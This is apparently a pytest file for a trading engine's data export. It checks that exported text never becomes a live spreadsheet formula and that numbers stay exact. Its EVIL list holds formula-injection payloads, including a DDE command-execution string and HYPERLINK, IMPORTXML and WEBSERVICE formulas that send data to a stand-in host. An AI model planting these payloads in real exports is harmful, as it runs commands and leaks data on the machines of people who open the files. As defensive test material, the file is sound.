"""T07, formulas in exports: what others wrote is text in every spreadsheet; numbers stay numbers, exactly."""

from __future__ import annotations

import csv
import json
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from engine.model.tables import COLUMNS
from engine.sheets import NUMBERS, write_rows
from tests.processes import (
    EngineProcess,
    VenueProcess,
    alpaca,
    import_accounts,
    volley,
    write_config,
)

EVIL = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1+1", "＋1", "－1",
    "＠x",
    '=HYPERLINK("http://evil.example/?"&A1,"ok")', '=IMPORTXML("http://evil.example","//a")', "-2+3+cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example\")", "{=1}", "'=1", '"=1', ",=1", ";=1", "a\n=1", "-", "+", "=", "@",
]  # fmt: skip
NUMBER_TEXTS = ["-5", "0", "189.43", "-0.000000000001", "123456789012345", "-99999.99"]
LONG = "123456789012345678.123456789012"


def rows(column: str, values: list[str]) -> list[dict[str, object]]:
    return [{column: value} for value in values]


def formula_cells(path: Path) -> list[str]:
    """Return every formula in a workbook's own XML, however it came there."""
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if "/sheet" in name]
    return [sheet for sheet in sheets if "<f>" in sheet or "<f " in sheet or 't="str"' in sheet]


@pytest.mark.parametrize("column", ["text", "strategy", "message", "limit_price"])
def test_no_text_is_a_formula_in_xlsx(tmp_path: Path, column: str) -> None:
    path = tmp_path / "x.xlsx"
    write_rows("xlsx", path, [column], rows(column, EVIL))
    sheet = load_workbook(path)["volley"]
    cells = [cell for (cell,) in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(EVIL)
    assert {cell.data_type for cell in cells} == {"s"}
    assert not formula_cells(path)
    for cell, text in zip(cells, EVIL, strict=True):
        plain = {"\t": "\\t", "\r": "\\r", "\n": "\\n", "\0": "\\x00"}
        assert cell.value == "".join(plain.get(letter, letter) for letter in text)
        if text[0] in "=+-@":
            assert cell.quotePrefix


@pytest.mark.parametrize("column", ["text", "strategy", "message", "limit_price"])
def test_no_text_is_a_formula_in_csv(tmp_path: Path, column: str) -> None:
    path = tmp_path / "x.csv"
    write_rows("csv", path, [column], rows(column, EVIL))
    with path.open(encoding="utf-8", newline="") as file:
        header, *read = list(csv.reader(file))
    assert header == [column]
    for (cell,), text in zip(read, EVIL, strict=True):
        assert cell.removeprefix("'") == text.removeprefix("'")
        assert not cell.startswith(
            ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
        )


def test_numbers_stay_numbers_and_exact(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_rows("xlsx", path, ["qty"], rows("qty", [*NUMBER_TEXTS, LONG]))
    *cells, long = [cell for (cell,) in load_workbook(path)["volley"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"n"}
    assert [Decimal(str(cell.value)) for cell in cells] == [Decimal(text) for text in NUMBER_TEXTS]
    assert (long.data_type, long.value) == (
        "s",
        LONG,
    )  # more digits than a spreadsheet keeps: text, whole
    path = tmp_path / "x.csv"
    write_rows("csv", path, ["qty"], rows("qty", [*NUMBER_TEXTS, LONG]))
    assert path.read_text().split()[1:] == [*NUMBER_TEXTS, LONG]


def test_every_number_column_is_a_column() -> None:
    exported = {
        name for table in ("orders", "fills", "signals", "positions") for name in COLUMNS[table]
    }
    assert exported >= NUMBERS


@pytest.mark.parametrize("table", ["orders", "fills", "signals", "positions"])
def test_a_whole_row_goes_there_and_back(tmp_path: Path, table: str) -> None:
    row = {name: "-1.5" if name in NUMBERS else f"=text of {name}" for name in COLUMNS[table]}
    write_rows("xlsx", tmp_path / "x.xlsx", COLUMNS[table], [row])
    header, cells = load_workbook(tmp_path / "x.xlsx")["volley"].iter_rows(values_only=True)
    assert header == COLUMNS[table]
    for name, value in zip(header, cells, strict=True):
        assert value == (-1.5 if name in NUMBERS else row[name])
    write_rows("jsonl", tmp_path / "x.jsonl", COLUMNS[table], [row])
    assert json.loads((tmp_path / "x.jsonl").read_text()) == row


def test_an_engine_with_hostile_texts_exports_all_three_forms(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    with VenueProcess(tmp_path, "--still") as venue:
        write_config(home)
        import_accounts(home, [alpaca(1, venue.url)])
        with EngineProcess(home) as engine:
            engine.wait_connected(1)
            assert engine.signal(id="-1", strategy="-2.3", meta={"note": "=1+1"}).status_code == 202
            for form in ("csv", "jsonl", "xlsx"):
                for table in ("signals", "orders", "fills", "positions"):
                    out = tmp_path / f"{table}.{form}"
                    done = volley(
                        home, "export", table, "--format", form, "--out", str(out), "--json"
                    )
                    assert done.returncode == 0, done.stderr
            sheet = load_workbook(tmp_path / "signals.xlsx")["volley"]
            header, row = list(sheet.iter_rows(values_only=True))[:2]
            assert dict(zip(header, row, strict=True))["id"] == "-1"  # the text it was
            assert not formula_cells(tmp_path / "signals.xlsx")
            assert "'-2.3" in (tmp_path / "signals.csv").read_text()
